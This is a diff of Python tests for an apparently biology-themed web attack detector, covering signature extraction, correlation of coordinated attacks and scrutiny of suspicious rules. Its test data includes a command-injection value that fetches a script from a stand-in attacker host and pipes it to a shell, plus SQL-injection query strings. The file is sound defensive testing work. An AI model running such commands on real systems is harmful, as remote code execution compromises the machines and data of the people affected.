@@ -67,7 +67,12 @@ def test_a_storm_folds_low_priority_signals_per_signature_and_entity() -> None:
     assert low == {("a", "rule:942100"): 30, ("b", "rule:942100"): 10, ("a", "rule:1"): 1}
 
 
-def test_signatures_fingerprint_the_payload_and_its_iocs_not_the_target_host() -> None:
+def _profile_evidence(feature: str, observed: str, score: float = 0.6) -> list[dict[str, object]]:
+    return [{"stage": "hpc_profile", "score": score, "detail": "anomalous", "feature": feature,
+             "observed": observed}]
+
+
+def test_signatures_name_the_anomalous_value_and_its_iocs_never_the_request_shape() -> None:
     from agents.dendritic import Correlator, signatures_of
     from tests.conftest import make_event
 
@@ -75,11 +80,17 @@ def test_signatures_fingerprint_the_payload_and_its_iocs_not_the_target_host() -
         event = make_event(entity=entity, uri=uri, headers={"host": "shop.example"})
         return {"event": event, "reflex": {"matches": []}}
 
-    first = signatures_of(item("10.0.0.1", "/a?cmd=curl%20http://evil.example/x.sh%20|%20sh&n=17"))
-    again = signatures_of(item("10.0.0.2", "/b?CMD=curl%20http://evil.example/x.sh%20|%20SH&n=4242"))
-    assert first[0].startswith("payload:") and first[0] == again[0]  # case and numbers do not change it
+    value = "curl http://evil.example/x.sh | sh"
+    first = signatures_of(item("10.0.0.1", "/a?cmd=x&n=17"), _profile_evidence("param:cmd", value))
+    again = signatures_of(item("10.0.0.2", "/b?n=4242"), _profile_evidence("param:cmd", value.upper()))
+    assert first[0].startswith("value:") and first[0] == again[0]  # case and numbers do not change it
     assert "ioc:domain:evil.example" in first and not any("shop.example" in s for s in first)
-    assert signatures_of(item("10.0.0.3", "/a?q=shoes")) == []  # too short to mean one attack
+    # a request nothing found anomalous has no signature, however long or common its payload: the issue's
+    # cascade came from fingerprinting whole payloads (an empty-cart button's is the same in attacks and not)
+    cart = item("10.0.0.3", "/tienda1/publico/vaciar.jsp?B2=Vaciar+carrito")
+    assert signatures_of(cart, []) == []
+    assert signatures_of(cart, _profile_evidence("param:B2", "Vaciar carrito", score=0.35)) == []
+    assert signatures_of(item("10.0.0.3", "/a?q=-1"), _profile_evidence("param:q", "-1")) == []  # too short
 
     correlator = Correlator()
     raised = [correlator.observe(first[0], f"10.0.0.{i}", f"e{i}", 100.0 + i) for i in range(10)]
@@ -87,7 +98,22 @@ def test_signatures_fingerprint_the_payload_and_its_iocs_not_the_target_host() -
                                                                               "coordinated attack"]
 
 
-def test_a_clonal_expansion_puts_its_signature_under_scrutiny_for_a_while() -> None:
+def test_a_rule_usual_on_the_endpoint_is_no_signature() -> None:
+    from agents.dendritic import signatures_of
+    from agents.profiles import EndpointProfiles
+    from tests.conftest import make_event
+
+    profiles = EndpointProfiles()
+    normal = make_event(uri="/shop/search?q=o%27brien")
+    profiles.learn_batch([{"event": normal, "reflex": {"matches": [{"rule_id": 1004}]}} for _ in range(100)], {})
+    hit = {"event": make_event(uri="/shop/search?q=x%27--"), "reflex": {"matches": [{"rule_id": 1004},
+                                                                                   {"rule_id": 1001}]}}
+    assert signatures_of(hit, [], profiles) == ["rule:1001"]
+    elsewhere = {"event": make_event(uri="/shop/cart?q=x%27--"), "reflex": {"matches": [{"rule_id": 1004}]}}
+    assert signatures_of(elsewhere, [], profiles) == ["rule:1004"]
+
+
+def test_a_clonal_expansion_puts_the_signature_of_its_malicious_part_under_scrutiny() -> None:
     from agents.dendritic import SCRUTINY_S, Correlator
     from agents.macrophage import Macrophage
     from agents.pipeline import judge
@@ -97,13 +123,20 @@ def test_a_clonal_expansion_puts_its_signature_under_scrutiny_for_a_while() -> N
     assert correlator.scrutinised(["rule:942100"], 100.0) is None
     for i in range(5):
         correlator.observe("rule:942100", f"10.0.0.{i}", f"e{i}", 100.0 + i)
-    assert correlator.scrutinised(["payload:ab", "rule:942100"], 110.0) == "rule:942100"
+    assert correlator.scrutinised(["value:ab", "rule:942100"], 110.0) == "rule:942100"
     assert correlator.scrutinised(["rule:942100"], 104.0 + SCRUTINY_S + 1) is None
 
     stages = judging_stages(Macrophage())
-    item = {"event": make_event(), "reflex": {"decision": "ALLOW", "threat": 0.0, "anomaly": 0.0, "matches": []},
-            "neutrophil": {"score": 0.3, "response": "monitor_30m"}}
-    plain = judge(stages, [dict(item)], {}).verdicts[0]
-    watched = judge(stages, [{**item, "scrutiny": "rule:942100"}], {}).verdicts[0]
+    now = 1_763_800_000.0
+    for i in range(5):
+        stages.correlator.observe("rule:942100", f"10.0.0.{i}", f"e{i}", now + i)
+
+    def item(matches: list[dict[str, object]]) -> dict[str, object]:
+        return {"event": make_event(), "neutrophil": {"score": 0.3, "response": "monitor_30m"},
+                "reflex": {"decision": "ALLOW", "threat": 0.0, "anomaly": 0.0, "matches": matches}}
+
+    plain = judge(stages, [item([])], {}, now=now + 10).verdicts[0]
+    watched = judge(stages, [item([{"rule_id": 942100}])], {}, now=now + 10).verdicts[0]
+    assert not any(e["stage"] == "dendritic" for e in plain["evidence"])  # nothing malicious in it to match
     assert watched["score"] > plain["score"] and watched["final_verdict"] != "BENIGN"
     assert any(e["stage"] == "dendritic" and "under scrutiny" in e["detail"] for e in watched["evidence"])
